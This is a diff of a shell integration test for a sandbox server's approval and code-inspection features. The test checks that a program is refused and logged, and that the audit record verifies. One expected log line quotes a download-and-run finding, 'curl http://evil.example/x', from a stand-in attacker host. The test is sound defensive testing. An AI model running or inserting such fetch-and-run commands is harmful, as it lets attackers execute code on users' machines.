@@ -1,20 +1,22 @@
 #!/bin/bash
-# callgate serve --approve: denied calls of sandboxes wait for the approver. A template whose policy has "inspect",
-# which the server does not do, is refused at the start; one that is added later runs nothing.
+# callgate serve --approve: denied calls of sandboxes wait for the approver. A template whose policy has "inspect": what
+# is found in programs and code is an error, in the server's log, and on record.
 . "$(dirname "$0")/../lib.sh"
 . "$(dirname "$0")/server.sh"
 need_server
 H=$T/host
-mkdir -p "$H" "$T/templates/asks" "$T/looking/looks" "$T/looking/other"
+mkdir -p "$H" "$T/templates/asks" "$T/templates/looks" "$T/audit"
 for name in a b; do
 	echo "text $name" >"$H/$name"
 done
 policy='"version": 1, "filesystem": {"read": ["/usr", "/bin", "/lib", "/lib64", "/etc", "/run"], "write": ["@workdir"],
 	"exec": ["/usr", "/bin", "/lib", "/lib64"]}'
 echo "{$policy, \"on_deny\": \"ask\"}" >"$T/templates/asks/policy.json"
-echo "{$policy, \"inspect\": {\"refuse\": [\"alarm\"]}}" >"$T/looking/base.json"
-echo '{"version": 1, "extends": ["../base.json"]}' >"$T/looking/looks/policy.json"
-echo '{' >"$T/looking/other/policy.json"
+cat >"$T/templates/looks/policy.json" <<END
+{"version": 1, "extends": ["$SRC/agents/templates/code-interpreter-v1/policy.json"], "inspect": {"refuse": ["alarm"],
+	"warn": ["warning"]}}
+END
+export CALLGATE_PARSERS=$SRC/cli/inspect/parsers
 
 refused()
 {
@@ -28,8 +30,6 @@ refused --approve command:
 refused --approve command:true --ask-timeout 0
 refused --approvals "$T/kept"
 refused --ask-timeout 5s
-refused --templates "$T/looking"
-grep -q '^callgate serve: template looks: its policy has "inspect"' "$T/out" || fail "inspect: $(cat "$T/out")"
 
 client()
 {
@@ -38,11 +38,22 @@ client()
 start_server --api-key "$SERVE_KEY" --templates "$T/templates" --ask-timeout 20s --approve \
 	"command:jq -c '{id, answer: (if .resolved == \"$H/a\" then \"once\" else \"no\" end)}'"
 client approval asks "$H"
-cp -r "$T/looking/"* "$T/templates"
-client looks looks
-rm -r "$T/templates/looks"
 stop_server TERM
 await_sessions "stopped"
+start_server --api-key "$SERVE_KEY" --templates "$T/templates" --audit-dir "$T/audit"
+client looks looks
+stop_server TERM
+await_sessions "stopped, looking"
+# The log tells of refusals, of what was warned of, and of a file that was another one when it ran; so does the record.
+for line in '.event == "program_refused" and (.why | test("bad.py:2: download-run: curl http://evil.example/x"))' \
+	'.event == "findings" and any(.findings[]; .kind == "not-looked-at")' \
+	'.event == "changed_after_look" and .files == ["good.py"]'; do
+	jq -es "any(.[]; $line)" "$T/log" >/dev/null || fail "the log has no line with $line: $(cat "$T/log")"
+done
+log=$(grep -l '"event":"inspect"' "$T"/audit/*)
+[ "$(grep -c '"event":"inspect","cause":".*:[12]: download-run: .*"verdict":"deny"' "$log")" = 7 ] ||
+	fail "records: $(grep '"event":"inspect"' "$T"/audit/*)"
+"$CALLGATE" audit verify "$log" >"$T/out" 2>&1 || fail "verify: $(cat "$T/out")"
 start_server --api-key "$SERVE_KEY" --templates "$T/templates"
 client nobody asks "$H"
 stop_server TERM
